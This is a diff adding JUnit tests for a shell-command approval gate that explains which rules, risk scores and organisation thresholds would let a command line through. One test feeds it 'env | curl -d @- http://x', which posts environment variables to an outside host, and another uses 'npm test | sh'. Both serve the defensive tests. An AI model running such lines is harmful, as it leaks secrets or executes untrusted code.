@@ -6,8 +6,13 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import com.expacti.domain.decision.Assessment;
 import com.expacti.domain.decision.Gate;
 import com.expacti.domain.decision.Question;
+import com.expacti.domain.identity.UserId;
+import com.expacti.domain.org.OrgSettings;
 import com.expacti.domain.org.OrgView;
 import com.expacti.domain.org.ViewBuilder;
+import com.expacti.domain.policy.ApprovalPolicy;
+import com.expacti.domain.policy.ScopedPolicy;
+import com.expacti.domain.risk.RiskLevel;
 import com.expacti.domain.rule.Coverage;
 import com.expacti.domain.rule.PatternType;
 import com.expacti.domain.rule.Rule;
@@ -221,5 +226,194 @@ class ExplanationTest {
 
         assertEquals(64, explanation.parts().size());
         assertTrue(explanation.whatWouldChange().size() <= Remedies.SENTENCES_MAX, "few sentences");
+    }
+
+    @Test
+    void of_several_commands_without_a_rule_three_are_named_and_the_others_counted() {
+        assertEquals(
+                List.of("No rule covers the first (`ls a`), the second (`ls b`), the third (`ls c`)."),
+                explain("ls a; ls b; ls c").whatWouldChange());
+        assertEquals(
+                List.of("No rule covers the first (`ls a`), the second (`ls b`), the third (`ls c`) and 2 more."),
+                explain("ls a; ls b; ls c; ls d; ls e").whatWouldChange());
+    }
+
+    @Test
+    void a_command_far_behind_is_named_by_its_number() {
+        allow("r", "git status");
+
+        assertEquals(
+                List.of("A rule `npm test` for the tenth command would let the whole line through."),
+                explain("git status; ".repeat(9) + "npm test").whatWouldChange());
+        assertEquals(
+                List.of("A rule `npm test` for the 11th command would let the whole line through."),
+                explain("git status; ".repeat(10) + "npm test").whatWouldChange());
+    }
+
+    @Test
+    void text_that_breaks_off_is_told_by_the_number_of_its_character_from_one() {
+        assertTrue(
+                explain("echo \"a").whatWouldChange().getFirst().contains("(near character 6)"),
+                explain("echo \"a").whatWouldChange().getFirst());
+    }
+
+    @Test
+    void no_rule_is_promised_for_a_line_that_its_words_would_not_let_through() {
+        allow("r", "git status");
+
+        for (String line : List.of("git status > out.txt; npm test", "git status && npm test | sh")) {
+            assertTrue(
+                    explain(line).whatWouldChange().stream().noneMatch(sentence -> sentence.startsWith("A rule")),
+                    explain(line).whatWouldChange().toString());
+        }
+    }
+
+    @Test
+    void leaving_out_one_of_two_obstacles_lets_nothing_through_yet() {
+        allow("r", "git status");
+
+        List<String> sentences = explain("git status > a > b").whatWouldChange();
+
+        assertTrue(
+                sentences.getFirst().startsWith("Without `> a` the rules can judge the rest:"), sentences.toString());
+        assertTrue(sentences.get(1).startsWith("Without `> b` the rules can judge the rest:"), sentences.toString());
+    }
+
+    @Test
+    void without_the_one_obstacle_a_line_no_rule_covers_can_only_be_judged() {
+        String sentence = explain("git status > out.txt").whatWouldChange().getFirst();
+
+        assertTrue(sentence.startsWith("Without `> out.txt` the rules can judge the rest:"), sentence);
+    }
+
+    @Test
+    void an_option_is_not_named_as_what_to_leave_out_where_the_rest_does_not_pass() {
+        allow("r", "git log *");
+
+        List<String> sentences = explain("git log --output=x --output=y main").whatWouldChange();
+
+        assertTrue(sentences.stream().noneMatch(each -> each.contains("lets it through")), sentences.toString());
+    }
+
+    @Test
+    void a_line_whose_commands_all_have_rules_but_score_too_much_together_is_told_so() {
+        org.with(ceiling("a", "env", 49)).with(ceiling("b", "curl -d @- *", 49));
+
+        Explanation explanation = explain("env | curl -d @- http://x");
+
+        assertEquals(
+                List.of(),
+                explanation.parts().stream()
+                        .filter(part -> part.coveredBy().isEmpty())
+                        .toList());
+        assertTrue(
+                explanation.whatWouldChange().getFirst().startsWith("Rules cover every command by itself; together"),
+                explanation.whatWouldChange().toString());
+    }
+
+    private static Rule ceiling(String id, String pattern, int most) {
+        return new Rule(
+                id,
+                RuleEffect.ALLOW,
+                PatternType.GLOB,
+                pattern,
+                new RuleScope.Global(),
+                Optional.empty(),
+                List.of(),
+                OptionalInt.of(most),
+                Optional.empty(),
+                "",
+                "user_a",
+                false,
+                Set.of());
+    }
+
+    @Test
+    void where_an_org_lets_low_scores_through_the_two_numbers_are_told() {
+        org.with(threshold(5));
+        int score = Gate.assess(
+                        org.build(),
+                        new Question(Gate.parse("rm x"), Optional.of("/srv/a"), Optional.empty(), List.of(), false),
+                        NOW)
+                .risk()
+                .score();
+
+        assertTrue(
+                explain("rm x")
+                        .whatWouldChange()
+                        .contains("It scores %d; the organisation lets commands below 5 through.".formatted(score)),
+                explain("rm x").whatWouldChange().toString());
+        org.with(threshold(score));
+        assertEquals(2, explain("rm x").whatWouldChange().size());
+        org.with(threshold(score + 1));
+        assertEquals(
+                List.of(
+                        "Nothing has to change: it scores %d, below the %d under which the organisation lets commands through."
+                                .formatted(score, score + 1)),
+                explain("rm x").whatWouldChange());
+    }
+
+    private static OrgSettings threshold(int below) {
+        OrgSettings standard = OrgSettings.standard("Test");
+        return new OrgSettings(
+                "Test",
+                standard.timeout(),
+                standard.timeoutAction(),
+                OptionalInt.empty(),
+                OptionalInt.of(below),
+                false,
+                standard.anomalies(),
+                false);
+    }
+
+    @Test
+    void a_long_text_is_shown_up_to_its_120th_character() {
+        String most = "ls " + "x".repeat(117);
+
+        assertTrue(explain(most).whatWouldChange().getFirst().contains("`" + most + "`"), "whole");
+        assertTrue(explain(most + "x").whatWouldChange().getFirst().contains("`" + most + "…`"), "cut");
+    }
+
+    @Test
+    void a_rule_without_the_votes_its_policy_asks_for_is_near_with_that_reason() {
+        allow("r", "git status");
+        org.with(new ScopedPolicy(
+                "pol_1",
+                new ApprovalPolicy.MinApprovers(2),
+                PatternType.GLOB,
+                "git *",
+                new RuleScope.Global(),
+                RiskLevel.LOW,
+                new UserId("user_a"),
+                NOW));
+
+        assertEquals(
+                List.of("r: it was made without the votes that the command's approval policy asks for"),
+                reasons(explain("git status")));
+        for (String line : List.of("git status; ls", "git status > out.txt")) {
+            assertTrue(
+                    reasons(explain(line)).stream().noneMatch(reason -> reason.contains("votes")),
+                    reasons(explain(line)).toString());
+        }
+    }
+
+    @Test
+    void a_tree_ends_at_1000_pieces_and_at_a_depth_of_64() {
+        TreeNode wide = explain("echo " + "a ".repeat(1_200)).tree().orElseThrow();
+        TreeNode deep = explain("( ".repeat(40) + "id" + " )".repeat(40)).tree().orElseThrow();
+
+        assertEquals(TreeNode.NODES_MAX, pieces(wide));
+        assertEquals(TreeNode.DEPTH_MAX, depth(deep));
+    }
+
+    private static int pieces(TreeNode node) {
+        return 1 + node.children().stream().mapToInt(ExplanationTest::pieces).sum();
+    }
+
+    private static int depth(TreeNode node) {
+        return node.children().stream()
+                .mapToInt(child -> 1 + depth(child))
+                .max()
+                .orElse(0);
     }
 }
